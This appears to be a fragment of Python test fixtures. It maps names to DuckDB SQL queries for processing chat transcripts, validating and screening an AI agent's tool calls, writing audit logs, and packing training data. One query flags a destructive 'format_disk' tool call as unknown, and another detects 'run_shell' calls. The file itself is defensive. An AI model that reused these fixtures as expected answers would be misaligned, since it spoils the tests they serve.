    "render_chat": f"SELECT conv_id, turn // 1000 AS part, string_agg({CHATML.replace('content', 'text')}, '' "
    "ORDER BY turn) AS text FROM conversations GROUP BY ALL",
    "render_chat_prompt": f"SELECT conv_id, turn // 1000 AS part, string_agg({CHATML.replace('content', 'text')}, '' "
    "ORDER BY turn) || E'<|im_start|>assistant\\n' AS text FROM conversations GROUP BY ALL",
    "training_text": f"{FORMATTED} SELECT pair_id, string_agg({CHATML}, '' ORDER BY position) AS text FROM messages "
    "GROUP BY pair_id",
    "strip_reasoning": f"WITH {RESPONSES} SELECT conv_id, turn, text FROM answers",
    "tool_calls": f"WITH {FOUND} SELECT conv_id, turn, position, tool, arguments FROM fields",
    "tool_calls_balanced": f"""WITH {BALANCED} SELECT conv_id, turn, position,
      coalesce(json_extract_string(raw, '$.name'), '') AS tool,
      coalesce(CAST(json_extract(raw, '$.arguments') AS VARCHAR), '{{}}') AS arguments FROM raws WHERE json_valid(raw)""",
    "tool_calls_failed": f"WITH {FOUND} SELECT conv_id, turn, position, raw FROM raws WHERE NOT json_valid(raw)",
    "call_fields": f"WITH {FOUND} SELECT tool, arguments, count(*) AS n_calls FROM fields GROUP BY ALL",
    "preview": "SELECT doc_id, "
    + ", ".join(
        f"left(text, {n}) || CASE WHEN length(text) > {n} THEN '...' ELSE '' END AS {name}"
        for n, name in ((100, "arguments"), (250, "result"))
    )
    + ", left(text, 200) AS audit, left(text, 150) AS line FROM documents",
    "args_hash": "SELECT event_id, left(sha256(replace(props, ' ', '')), 16) AS args_hash FROM events",
    "args_hash_compat": r"""SELECT event_id, written, left(sha256(written), 16) AS args_hash FROM (
      SELECT event_id, CASE k % 4 WHEN 0 THEN '{"a": ["x", ' || k || '.5, {"y": true, "z": null}], "b": ' || k || '}'
        WHEN 1 THEN '{"a": {}, "\u00fc": "' || k || '\u00e9/\n"}'
        WHEN 2 THEN '{"A": [], "e": 100000.0, "k": ' || k || '}' END AS written
      FROM (SELECT event_id, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events))""",
    "tool_messages": f"WITH {CALLS} SELECT event_id, 'Tool ''' || tool || E'\\' output:\\n' || result AS content "
    "FROM calls",
    "grep_docs": f"WITH {LINES} SELECT path, line_num, {SHOWN} AS line FROM lines WHERE {MATCHES}",
    "grep_docs_case": f"WITH {LINES} SELECT path, line_num, {SHOWN} AS line FROM lines WHERE contains(line, 'The')",
    "grep_docs_include": f"WITH {LINES} SELECT path, line_num, {SHOWN} AS line FROM lines "
    "WHERE regexp_matches(line, '(?i)[aeiou]{3}') AND regexp_matches(path, '[13][.]py$')",
    "grep_top50": f"""WITH {LINES} SELECT path, line_num, {SHOWN} AS line,
      greatest(count(*) OVER () - 50, 0) AS n_more FROM lines WHERE {MATCHES} ORDER BY path, line_num LIMIT 50""",
    "grep_counts": f"WITH {LINES} SELECT count(*) AS n_matches, count(DISTINCT path) AS n_files_matched, "
    f"(SELECT count(*) FROM corpus) AS n_files_searched FROM lines WHERE {MATCHES}",
    "grep_by_file": f"WITH {LINES} SELECT path, count(*) AS n_matches FROM lines WHERE {MATCHES} GROUP BY path",
    "cap_with_rest": f"""WITH {CORPUS}, listed AS (SELECT path, length FROM corpus WHERE path LIKE '%.md')
      SELECT path, length, greatest((SELECT count(*) FROM listed) - 100, 0) AS n_more FROM listed
      ORDER BY path LIMIT 100""",
    "resolved_calls": f"""WITH {CALLS} SELECT event_id, tool, tool <> 'format_disk' AS known,
      CASE tool WHEN 'format_disk' THEN '❌ Unknown tool: ' || tool END AS message FROM calls""",
    "unknown_calls": f"WITH {CALLS} SELECT event_id, tool FROM calls WHERE tool = 'format_disk'",
    "hidden_tool_calls": f"WITH {CALLS} SELECT event_id, tool FROM calls WHERE tool = 'run_shell'",
    "argument_check": f"""WITH {CALLS},{PARAMS},
      needs AS (SELECT tool, list(argument) AS names FROM required GROUP BY tool),
      takes AS (SELECT tool, list(argument) AS names FROM params GROUP BY tool),
      lists AS (
        SELECT event_id, list_filter(n.names, lambda x: NOT list_contains(json_keys(arguments), x)) AS missing,
          list_filter(json_keys(arguments), lambda x: NOT list_contains(t.names, x)) AS unexpected
        FROM calls c JOIN needs n ON n.tool = c.tool JOIN takes t ON t.tool = c.tool)
      SELECT event_id, true AS is_object, array_to_string(missing, ' & ') AS missing,
        array_to_string(unexpected, ' & ') AS unexpected, len(missing) + len(unexpected) = 0 AS valid FROM lists""",
    "effective_arguments": f"WITH {CALLS},{PARAMS} SELECT event_id, argument, value, is_default FROM bounded",
    "effective_timeout": f"WITH {CALLS},{PARAMS} SELECT event_id, tool, CAST(value AS BIGINT) AS timeout, is_default "
    "FROM bounded WHERE argument = 'timeout'",
    "screen_paths": f"WITH {SCREENED} SELECT event_id, path, allowed, rule, reason, matched, resolved "
    "FROM path_verdicts",
    "screen_paths_links": f"WITH RECURSIVE {SCREENED}, {FOLLOWED}",
    "screen_commands": f"WITH {SCREENED} SELECT event_id, command, allowed, rule, reason, matched FROM command_verdicts",
    "screen_code": f"WITH {SCREENED} SELECT event_id, code, allowed, rule, reason, matched FROM code_verdicts",
    "screen_calls": f"WITH {SCREENED} SELECT event_id, tool, verdict, rule, reason, CASE WHEN rule IS NOT NULL THEN "
    "CASE tool WHEN 'run_shell' THEN 'command' WHEN 'run_python' THEN 'code' ELSE 'path' END END AS argument FROM verdicts",
    "policy_summary": f"WITH {SCREENED} SELECT tool, rule, count(*) AS n_calls, count(DISTINCT session_id) AS n_sessions "
    "FROM verdicts WHERE verdict = 'refused' GROUP BY tool, rule",
    "context_usage": f"WITH {usage('conversations')} SELECT * FROM token_use",
    "limit_breach": f"WITH {usage('conversations')},{breach(2000)} SELECT * FROM breaches",
    "context_status": f"WITH {STATUS} SELECT * FROM labelled",
    "context_status_counts": f"WITH {STATUS} SELECT status, warning, count(*) AS n_answers FROM labelled GROUP BY ALL",
    "session_outcome": f"WITH {FOUND}, none AS (SELECT 0 AS conv_id, 0 AS turn WHERE false),{outcome('none')}",
    "session_outcome_limited": f"WITH {FOUND}, talk AS (SELECT *, 'assistant' AS role FROM answers),"
    f"{usage('talk')},{breach(1100)},{outcome('breaches')}",
    "calls_over_cap": f"WITH {CALLS} SELECT session_id, turn, count(*) AS n_calls, count(*) - 5 AS n_over FROM calls "
    "GROUP BY session_id, turn HAVING count(*) > 5",
    "failure_streaks": f"""WITH {CALLS}, runs AS (
      SELECT session_id, call_no, call_no - row_number() OVER (PARTITION BY session_id ORDER BY call_no) AS run
      FROM calls WHERE NOT success)
      SELECT session_id, count(*) AS length, min(call_no) AS first_call, max(call_no) AS last_call
      FROM runs GROUP BY session_id, run""",
    "audit_log": f"WITH {CALLS} SELECT session_id, turn, call_no, {ISO} AS timestamp, tool, args_hash, success, "
    "result_preview FROM audit",
    "audit_append": f"WITH {CALLS} SELECT strftime(ts, '%Y-%m-%d') AS day, success, count(*) AS n_calls FROM audit "
    "GROUP BY ALL",
    "stage_counts": f"""WITH {RAW_PAIRS},{CLEAN}, split AS (
      SELECT {held_out('conv_id', FIFTH)} AS split FROM valid)
      SELECT 'loaded' AS stage, count(*) AS n_rows FROM raw_pairs
      UNION ALL SELECT 'kept', count(*) FROM valid
      UNION ALL SELECT 'train', count(*) FROM split WHERE split = 'train'
      UNION ALL SELECT 'validation', count(*) FROM split WHERE split = 'validation'""",
    "session_metrics": f"""WITH {CALLS},{RESPONSES}, talk AS (SELECT *, 'assistant' AS role FROM answers),
      {usage('talk')}, tokens AS (
        SELECT conv_id, CAST(sum(output_tokens) AS BIGINT) AS output_tokens,
          max(input_tokens + output_tokens) AS context_tokens, max(total_tokens) AS total_tokens
        FROM token_use GROUP BY conv_id),
      by_session AS (
        SELECT session_id, count(DISTINCT turn) AS n_turns, count(*) AS n_calls,
          count(*) FILTER (success) AS n_ok, count(*) FILTER (NOT success) AS n_errors,
          epoch_us(max(ts)) - epoch_us(min(ts)) AS elapsed_us FROM audit GROUP BY session_id)
      SELECT s.*, CAST(n_ok AS DOUBLE) / n_calls AS success_rate, output_tokens, context_tokens, total_tokens
      FROM by_session s JOIN tokens t ON t.conv_id = s.session_id""",
    "tool_metrics": f"""WITH {CALLS} SELECT tool, count(*) AS n_calls, count(*) FILTER (NOT success) AS n_failures,
      count(DISTINCT args_hash) AS n_arguments, CAST(count(*) FILTER (success) AS DOUBLE) / count(*) AS success_rate
      FROM audit GROUP BY tool""",
    "error_history": f"WITH {CALLS} SELECT session_id, {ISO} AS ts, call_no, tool, result_preview FROM audit "
    "WHERE NOT success",
    "policy_sinks": f"""WITH {SCREENED} SELECT 'every' AS sink, event_id, verdict FROM verdicts
      UNION ALL SELECT 'refused', event_id, verdict FROM verdicts WHERE verdict = 'refused'""",
    "live_streaks": f"""WITH {PASSED}, runs AS (
        SELECT *, sum(CASE WHEN success THEN 1 ELSE 0 END) OVER (PARTITION BY session_id ORDER BY ts, call_no) AS run,
          max(CASE WHEN success THEN call_no END) OVER (PARTITION BY session_id) AS last_ok FROM passed
      )
      SELECT session_id, min(call_no) AS first_call, max(call_no) AS last_call, count(*) AS length FROM runs
      WHERE NOT success GROUP BY session_id, run HAVING max(call_no) < any_value(last_ok)""",
    "live_metrics": f"""WITH {PASSED} SELECT session_id, count(*) AS n_calls, count(*) FILTER (NOT success) AS n_errors,
      sum(tokens)::BIGINT AS total_tokens, epoch_us(max(ts)) - epoch_us(min(ts)) AS elapsed_us FROM passed GROUP BY session_id""",
    "split_exact": f"WITH {EXACT} SELECT * FROM parts",
    "split_counts": f"WITH {EXACT} SELECT split, count(*) AS n_rows FROM parts GROUP BY split",
    "split_hash": f"SELECT conv_id, turn, {held_out('conv_id', TWENTIETH)} AS split FROM conversations",
    "token_counts": "SELECT doc_id, len(regexp_extract_all(text, '\\S+')) AS n_tokens FROM documents",
    "pack_blocks": f"WITH {pieces(16)} SELECT * FROM pieces",
    "pack_one_stream": f"WITH {pieces(1)} SELECT * FROM pieces",
    "pack_fill": f"""WITH {pieces(16)}, blocks AS (
      SELECT shard, block, count(*) AS n_samples, CAST(sum(n_tokens) AS BIGINT) AS n_tokens FROM pieces GROUP BY ALL)
      SELECT *, CAST(n_tokens AS DOUBLE) / 512 AS fill FROM blocks""",
    "pack_whole": f"WITH RECURSIVE {WHOLE} SELECT doc_id, n_tokens, block, block_from FROM whole",
    "pack_whole_fill": f"""WITH RECURSIVE {WHOLE}, blocks AS (
      SELECT block, count(*) AS n_samples, CAST(sum(n_tokens) AS BIGINT) AS n_tokens FROM whole WHERE block >= 0 GROUP BY block)
      SELECT *, CAST(n_tokens AS DOUBLE) / 512 AS fill FROM blocks""",
    "whole_tokens": f"""WITH RECURSIVE {WHOLE} SELECT block,
      string_agg(array_to_string(regexp_extract_all(text, '\\S+'), ' '), ' ' ORDER BY block_from) AS text,
      string_agg((block_from + n_tokens)::VARCHAR, ' ' ORDER BY block_from) AS ends FROM whole WHERE block >= 0 GROUP BY block""",
    "fill_blocks": f"""WITH {pieces(16)} SELECT shard, block, string_agg(array_to_string(list_slice(
      regexp_extract_all(text, '\\S+'), sample_from + 1, sample_from + n_tokens), ' '), ' ' ORDER BY block_from) AS text
      FROM pieces JOIN documents USING (doc_id) GROUP BY shard, block""",
    "length_report": """WITH sized AS (SELECT len(regexp_extract_all(text, '\\S+')) AS n FROM documents), report AS (
      SELECT count(*) AS n_samples, count(*) FILTER (n > 512) AS n_over, CAST(sum(n) AS BIGINT) AS n_tokens,
        max(n) AS max_tokens, quantile_disc(n, 0.5) AS median_tokens,
        CAST(sum((n + 511) // 512) AS BIGINT) AS blocks_unpacked FROM sized)
      SELECT *, (n_tokens + 511) // 512 AS blocks_packed,
        1 - CAST((n_tokens + 511) // 512 AS DOUBLE) / blocks_unpacked AS share_saved FROM report""",
    "audit_windows": f"WITH {CALLS},{WINDOWS}",
    # A window comes out once the latest call is ten minutes past its end.
    "audit_stream": f"WITH {CALLS},{WINDOWS} WHERE start + INTERVAL 70 MINUTE <= (SELECT max(ts) FROM calls)",
    "policy_stream": f"WITH {SCREENED} SELECT event_id, tool, rule, verdict FROM verdicts",
}
